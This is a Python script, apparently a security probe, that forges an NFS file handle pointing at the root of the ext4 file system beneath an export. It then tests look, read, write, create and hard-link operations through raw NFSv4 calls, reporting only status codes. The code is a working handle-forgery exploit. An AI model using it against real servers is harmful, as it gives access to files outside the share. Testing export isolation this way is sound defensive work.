# GNU General Public License v3.0+ (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later
"""Try to leave an NFS share by a forged file handle, as root on a worker can, and print each result as JSON.

Usage: forged_handles.py SERVER SHARE < ATTEMPTS, a JSON list of ``[operation, path on the server's file system]``.

The kernel's NFS client tells the server's handle of a file (name_to_handle_at(2); fs/nfs/export.c puts it behind 12
bytes of its own). An ext4 handle ends with inode and generation (fs/exportfs/expfs.c, FILEID_INO32_GEN). The root
directory of an ext4 file system is inode 2, and generation 0 fits every inode (ext4_nfs_get_inode): a handle with these
two is the root of the file system that the share lies on. From there on the few operations of NFSv4.0 (RFC 7530) that
need no state do the rest, over a socket of this program's own, since the kernel's client refuses a directory above its
mount.
"""

from __future__ import annotations

import ctypes
import json
import os
import socket
import struct
import sys

MAX_HANDLE_BYTES = 128
AT_FDCWD = -100
CLIENT_HEAD_BYTES = 12
EXT4_ROOT = struct.pack("=II", 2, 0)
NFS_PROGRAM, NFS_VERSION, COMPOUND, AUTH_SYS = 100003, 4, 1, 1
CREATE, LINK, LOOKUP, PUTFH, READ, REMOVE, SAVEFH, WRITE = 6, 11, 15, 22, 25, 28, 32, 38
NO_STATE = bytes(16)
NF4DIR, FILE_SYNC = 2, 2
NAME = "forged-by-a-worker"
#: Status codes of RFC 7530, section 13.1; the others are printed as numbers.
STATUS = {0: "OK", 1: "EPERM", 2: "ENOENT", 13: "EACCES", 17: "EEXIST", 21: "EISDIR", 30: "EROFS", 70: "ESTALE"}


class Handle(ctypes.Structure):
    """``struct file_handle`` of open_by_handle_at(2)."""

    _fields_ = [("size", ctypes.c_uint), ("kind", ctypes.c_int), ("data", ctypes.c_ubyte * MAX_HANDLE_BYTES)]


def read_handle(path: str) -> bytes:
    """Return the server's handle of a file on an NFS mount."""
    libc = ctypes.CDLL(None, use_errno=True)
    handle, mount_id = Handle(size=MAX_HANDLE_BYTES), ctypes.c_int()
    if libc.name_to_handle_at(AT_FDCWD, path.encode(), ctypes.byref(handle), ctypes.byref(mount_id), 0):
        raise OSError(ctypes.get_errno(), "name_to_handle_at")
    data = bytes(handle.data[: handle.size])
    (size,) = struct.unpack_from("=H", data, CLIENT_HEAD_BYTES)
    return data[CLIENT_HEAD_BYTES + 2 : CLIENT_HEAD_BYTES + 2 + size]


def encode_opaque(value: bytes) -> bytes:
    """Encode bytes of any length (XDR, RFC 4506)."""
    return struct.pack(">I", len(value)) + value + bytes(-len(value) % 4)


class Server:
    """A connection to an NFS server, with compounds of operations that need no state."""

    def __init__(self, address: str) -> None:
        self.socket = socket.socket()
        self.socket.settimeout(60)
        for port in range(1023, 600, -1):  # "secure" exports answer privileged ports only (exports(5))
            try:
                self.socket.bind(("", port))
            except OSError:
                continue
            break
        self.socket.connect((address, 2049))
        self.calls = 0

    def compound(self, *operations: bytes) -> tuple[int, bytes]:
        """Send operations. Return the status of the last one that ran, and the encoded results."""
        self.calls += 1
        credential = struct.pack(">I", 0) + encode_opaque(b"worker") + struct.pack(">III", 0, 0, 0)
        call = struct.pack(">IIIIII", self.calls, 0, 2, NFS_PROGRAM, NFS_VERSION, COMPOUND)
        call += struct.pack(">I", AUTH_SYS) + encode_opaque(credential) + struct.pack(">II", 0, 0)
        call += encode_opaque(b"") + struct.pack(">II", 0, len(operations)) + b"".join(operations)
        self.socket.sendall(struct.pack(">I", 0x80000000 | len(call)) + call)
        reply = self._receive(struct.unpack(">I", self._receive(4))[0] & 0x7FFFFFFF)
        # xid, reply, accepted, verifier (flavour, length 0), success, status, empty tag
        (status,) = struct.unpack_from(">I", reply, 24)
        return int(status), reply[32:]

    def _receive(self, count: int) -> bytes:
        data = b""
        while len(data) < count:
            part = self.socket.recv(count - len(data))
            if not part:
                raise OSError("the server closed the connection")
            data += part
        return data


def lookup_operations(root: bytes, path: str) -> list[bytes]:
    """Return the operations that lead to a path below a handle."""
    names = [name for name in path.split("/") if name]
    return [struct.pack(">I", PUTFH) + encode_opaque(root)] + [
        struct.pack(">I", LOOKUP) + encode_opaque(n.encode()) for n in names
    ]


def try_operation(server: Server, share: bytes, root: bytes, operation: str, path: str) -> int:
    """Try one operation. Return the server's status: 0 when it succeeded."""
    lookups = lookup_operations(root, path)
    if operation == "look":
        return server.compound(*lookups)[0]
    if operation == "read":
        return server.compound(*lookups, struct.pack(">I", READ) + NO_STATE + struct.pack(">QI", 0, 4096))[0]
    if operation == "write":  # no byte: the permission is what is tried
        return server.compound(
            *lookups, struct.pack(">I", WRITE) + NO_STATE + struct.pack(">QI", 0, FILE_SYNC) + encode_opaque(b"")
        )[0]
    if operation == "create":
        make = struct.pack(">II", CREATE, NF4DIR) + encode_opaque(NAME.encode()) + struct.pack(">II", 0, 0)
        status = server.compound(*lookups, make)[0]
        if status == 0:
            server.compound(*lookups, struct.pack(">I", REMOVE) + encode_opaque(NAME.encode()))
        return status
    if operation == "link":  # a hard link to a foreign file, inside the share
        save = struct.pack(">I", SAVEFH)
        link = struct.pack(">I", LINK) + encode_opaque(NAME.encode())
        return server.compound(*lookups, save, struct.pack(">I", PUTFH) + encode_opaque(share), link)[0]
    raise ValueError(operation)


def main() -> None:
    """Forge a handle, try each operation, and print the results."""
    address, share = sys.argv[1:]
    inside = os.path.join(share, NAME + "-directory")
    os.makedirs(inside, exist_ok=True)
    try:
        handle = read_handle(inside)
        root = handle[:-8] + EXT4_ROOT
        server = Server(address)
        results = {}
        for operation, path in json.load(sys.stdin):
            status = try_operation(server, handle, root, operation, path)
            results[f"{operation} {path}"] = STATUS.get(status, str(status))
        print(json.dumps(results, indent=1))
    finally:
        for name in (os.path.join(inside, NAME), os.path.join(share, NAME)):
            if os.path.lexists(name):
                os.unlink(name)
        os.rmdir(inside)


if __name__ == "__main__":
    main()
